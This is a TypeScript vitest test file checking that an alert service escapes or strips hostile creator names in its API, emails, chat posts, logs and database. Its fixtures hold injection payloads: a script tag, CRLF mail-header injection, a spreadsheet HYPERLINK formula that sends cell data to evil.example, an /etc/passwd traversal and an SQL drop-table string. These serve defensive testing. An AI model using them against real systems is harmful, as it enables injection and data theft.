import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import { Writable } from "node:stream";
import { eq } from "drizzle-orm";
import { pino } from "pino";
import { describe, expect, it } from "vitest";
import type { Mail } from "@/core/mail/email";
import { createLogMonitoring } from "@/core/mail/monitoring";
import { createOutbox } from "@/core/mail/outbox";
import { channels } from "@/db/schema";
import { setAlertEmail } from "@/features/notifications/addresses.service";
import { useDailyRuns } from "@/test/daily-run";
import { send } from "@/test/request";
import { createKey } from "@/test/service";

const NAMES = {
  "html and quotes": `<b>Évil & "Co"</b><script>alert('1')</script>`,
  "line breaks that would be mail headers": "Pixel\r\nBcc: all@example.com\n\nFoundry\u2028\u2029\u0085",
  "control characters": "Bell\u0007 \u001b[31mred\u001b[0m\u0001\u007f",
  "a right-to-left override": "\u202egnp.yrdnuoF lexiP\u202c",
  "200 characters": "M".repeat(200),
  "200 astral characters": "🦖".repeat(100),
  "a spreadsheet formula": `=HYPERLINK("https://evil.example?"&A1;"click")`,
  "words of chat software": "<!channel> @everyone <https://evil.example|YouTube> *bold* `code`",
  "a path": "../../../etc/passwd",
  "words of SQL and JSON": `'; drop table alerts; -- {"a": "\\u0041"} $1 %s \${x}`,
  "the message itself": "X grew 99.9% in one day (1 → 2) grew",
} as const;

/** Control characters, line separators, and marks that reorder their surroundings. */
const HARMFUL = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

describe("hostile creator names", () => {
  const runs = useDailyRuns();
  const { service } = runs;
  let keys = 0;

  /** Creates a creator of this name that grows by 12.5 % in a daily run. */
  async function grow(name: string) {
    const key = await createKey(service);
    const email = `scout-${keys++}@example.com`;
    await setAlertEmail(service, key.id, email);
    const id = await runs.track(key.id, 1000, { name });
    runs.platform.show(id, runs.next, 1125, { name });
    await runs.run(runs.next);
    const { body } = await send("/api/alerts", { key: key.secret });
    const { body: listed } = await send("/api/track", { key: key.secret });
    const [mail] = runs.mailService.accepted.filter(({ to }) => to === email);
    if (!mail) throw new Error("no mail was accepted");
    return { id, body, listed, mail, posted: runs.channel.posts.at(-1) };
  }

  async function readOutboxFiles(mail: Mail): Promise<string[]> {
    const folder = path.join(service.env.dataDir, `outbox-${keys}`);
    await createOutbox(folder).send(mail);
    return readdir(folder);
  }

  it.each(Object.entries(NAMES))(
    "shows a name with %s literally in the API and without harm elsewhere",
    async (_, name) => {
      const { id, body, listed, mail, posted } = await grow(name);
      const message = `${name} grew 12.5% in one day (1,000 → 1,125)`;
      expect(body.alerts.map((alert: { message: string }) => alert.message)).toEqual([message]);
      expect(listed.creators[0].name).toBe(name);

      expect(mail.subject).not.toMatch(HARMFUL);
      expect(mail.subject).toMatch(/^WATCH: .+ grew 12\.5% in one day$/);
      expect(mail.text.replaceAll("\n", "")).not.toMatch(HARMFUL);
      expect(mail.text).not.toMatch(/^Bcc/m);
      expect(mail.html).not.toMatch(/<b>|<script|<!channel|<https/);
      expect(Object.values(mail.headers).join("")).not.toMatch(HARMFUL);
      for (const link of mail.html.matchAll(/href="([^"]*)"/g))
        expect(link[1]).toMatch(/^(http:\/\/growth\.test|https:\/\/www\.youtube\.com\/channel\/UC)/);

      expect(posted).toMatchObject({
        message,
        channelUrl: `https://www.youtube.com/channel/${id}`,
        color: "#22d3ee",
      });
      expect(await readOutboxFiles(mail)).toEqual([
        expect.stringMatching(/^alert-[0-9a-f-]{36}\.html$/),
        expect.stringMatching(/^alert-[0-9a-f-]{36}\.json$/),
        expect.stringMatching(/^alert-[0-9a-f-]{36}\.txt$/),
      ]);
    },
  );

  it("escapes html in the email's html part and keeps it literal in the text part", async () => {
    const { mail } = await grow(NAMES["html and quotes"]);
    expect(mail.html).toContain("&lt;b&gt;Évil &amp; &quot;Co&quot;&lt;/b&gt;&lt;script&gt;");
    expect(mail.text).toContain(NAMES["html and quotes"]);
    const folder = path.join(service.env.dataDir, "outbox-html");
    await createOutbox(folder).send(mail);
    const [html = ""] = await readdir(folder);
    expect(await readFile(path.join(folder, html), "utf8")).toBe(mail.html);
  });

  it.each([NAMES["line breaks that would be mail headers"], NAMES["control characters"]])(
    "writes a post about a creator named %j as one log line",
    async (name) => {
      const { posted } = await grow(name);
      let written = "";
      const stream = new Writable({
        write(chunk, _, done) {
          written += chunk;
          done();
        },
      });
      if (posted) await createLogMonitoring(pino(stream)).post(posted);
      expect(written.split(/[\n\r]/)).toHaveLength(2);
      expect(written).not.toContain("\u001b");
      expect(JSON.parse(written).monitoring.message).toBe(posted?.message);
    },
  );

  it.each([
    ["U+0000", "Nul\u0000Maker", "NulMaker"],
    ["half a surrogate pair", "Torn\ud83e Maker", "Torn\ufffd Maker"],
    ["the other half", "\udd96Torn", "\ufffdTorn"],
  ])("removes or replaces %s in a name and still reports the growth", async (_, name, stored) => {
    const { id, body, listed, mail } = await grow(name);
    expect(body.alerts[0].message).toBe(`${stored} grew 12.5% in one day (1,000 → 1,125)`);
    expect(listed.creators[0].name).toBe(stored);
    expect(mail.text).toContain(stored.trim());
    const [row] = await service.db.select().from(channels).where(eq(channels.id, id));
    expect(row?.name).toBe(stored);
  });

  it("removes U+0000 from handle, thumbnail URL and country", async () => {
    const key = await createKey(service);
    const more = { handle: "@nul\u0000", thumbnailUrl: "https://yt3.example/\u0000", country: "N\u0000P" };
    const id = await runs.track(key.id, 1000, more);
    const [row] = await service.db.select().from(channels).where(eq(channels.id, id));
    expect(row).toMatchObject({ handle: "@nul", thumbnailUrl: "https://yt3.example/", country: "NP" });
  });
});
